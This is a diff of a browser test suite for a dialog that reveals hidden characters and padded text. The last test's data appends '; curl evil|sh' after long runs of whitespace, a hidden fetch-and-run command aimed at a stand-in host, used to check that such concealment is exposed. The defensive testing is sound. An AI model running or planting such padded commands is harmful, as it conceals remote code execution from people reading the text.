@@ -1,9 +1,6 @@
 """What cannot be seen in a text is written out wherever a person reads it, and named under what they type into."""
 
-import pytest
-from conftest import Dialog, serving
-from relay import Relay
-from Support.client import Client, FORM
+from Support.client import FORM
 from Support.deceptions import DECEPTION, DEFINITION, HIDDEN, PICTURE, SEEN
 
 # Where each of them stands: at least 300 in all.
@@ -24,35 +21,14 @@ UNSEEN = """
     return found;"""
 
 
-@pytest.fixture(scope="module")
-def asking(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("prompts")
-    (folder / "one.yaml").write_text("title: One\n")
-    with serving(folder) as server:
-        yield Client(server.url, server.token)
-
-
-@pytest.fixture
-def shown(browser, asking):
-    with Relay(asking.url) as relay:
-        dialog = Dialog(browser, relay)
-
-        def show(definition):
-            link = asking.call("POST", "/asks", {"definition": definition})["link"]
-            dialog.go("/a/" + link.rpartition("/")[2])
-            dialog.wait_until_live()
-            return dialog
-        yield show
-
-
 def line(dialog, name):
     return dialog.js(
         "const line = document.getElementById(arguments[0]); return line && !line.hidden ? line.textContent : ''", f"hidden-{name}")
 
 
-def test_nothing_is_hidden_in_a_dialog(shown):
+def test_nothing_is_hidden_in_a_dialog(linked):
     assert len(PLACES) * len(HIDDEN) >= 300
-    dialog = shown(DEFINITION)
+    dialog = linked.put(definition=DEFINITION)
     texts = dialog.js("return arguments[0].map((place) => document.querySelector(place)?.textContent.trim())", PLACES)
     assert dict(zip(PLACES, texts)) == dict.fromkeys(PLACES, SEEN)
     buttons = dialog.js("return ['.ok', '.cancel'].map((button) => document.querySelector(`.buttons ${button}`).textContent)")
@@ -68,8 +44,8 @@ def test_nothing_is_hidden_in_a_dialog(shown):
     assert dialog.js(UNSEEN) == []
 
 
-def test_what_a_control_hides_is_named_under_it(shown):
-    dialog = shown(DEFINITION)
+def test_what_a_control_hides_is_named_under_it(linked):
+    dialog = linked.put(definition=DEFINITION)
     assert dialog.text("note") == "a\u202eb"
     assert line(dialog, "note") == "Hidden characters: ⟨U+202E⟩"
     assert "hidden-note" in dialog.field("note").get_attribute("aria-describedby")
@@ -99,8 +75,8 @@ def test_what_was_entered_comes_back_with_its_line(asking):
     assert DECEPTION not in html
 
 
-def test_a_text_that_goes_on_says_so(shown):
-    dialog = shown({"title": "T", "context": [
+def test_a_text_that_goes_on_says_so(linked):
+    dialog = linked.put(definition={"title": "T", "context": [
         {"code": "make deploy" + " " * 4000 + "; curl evil|sh"}, {"text": "make deploy" + "\n" * 2000 + "; curl evil|sh"},
         {"diff": "+" + "x" * 2000 + "; curl evil|sh"}, {"code": "make deploy" + "\u3000 " * 45 + "; curl evil|sh"},
         {"table": {"columns": [f"column {n}" for n in range(60)], "rows": [["x"] * 60]}}, {"image": PICTURE, "alt": "Not this"}]})
